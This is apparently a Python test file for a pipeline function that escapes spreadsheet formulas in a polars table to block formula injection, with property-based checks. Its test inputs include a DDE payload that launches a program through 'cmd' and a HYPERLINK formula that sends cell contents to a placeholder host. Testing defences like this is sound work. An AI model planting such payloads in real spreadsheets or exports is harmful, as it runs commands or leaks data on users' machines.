"""Texts that a spreadsheet would run as formulas, and texts it would not."""

from __future__ import annotations

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lrtzc_pipelines.spreadsheets import without_formulas


def shown(text: str | None) -> str | None:
    frame = pl.DataFrame(
        {"text": [text], "number": [-1]}, schema_overrides={"text": pl.String}
    )
    (row,) = without_formulas(frame).rows()
    assert row[1] == -1
    return row[0]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://a.example/?"&A1)',
        "+33 1 23 45 67 89",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_a_formula_is_made_text(text: str) -> None:
    assert shown(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-2", "+3,5", "-0.25", "a=b", "'=1", "", None, "Aytré"]
)
def test_any_other_text_is_left_as_it_is(text: str | None) -> None:
    assert shown(text) == text


@given(st.text())
def test_what_is_shown_is_never_a_formula(text: str) -> None:
    written = shown(text) or ""
    assert written.removeprefix("'") in {text, text.removeprefix("'")}
    is_number = (
        written.lstrip("+-").replace(",", ".", 1).replace(".", "", 1).isdecimal()
    )
    assert is_number or not written.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
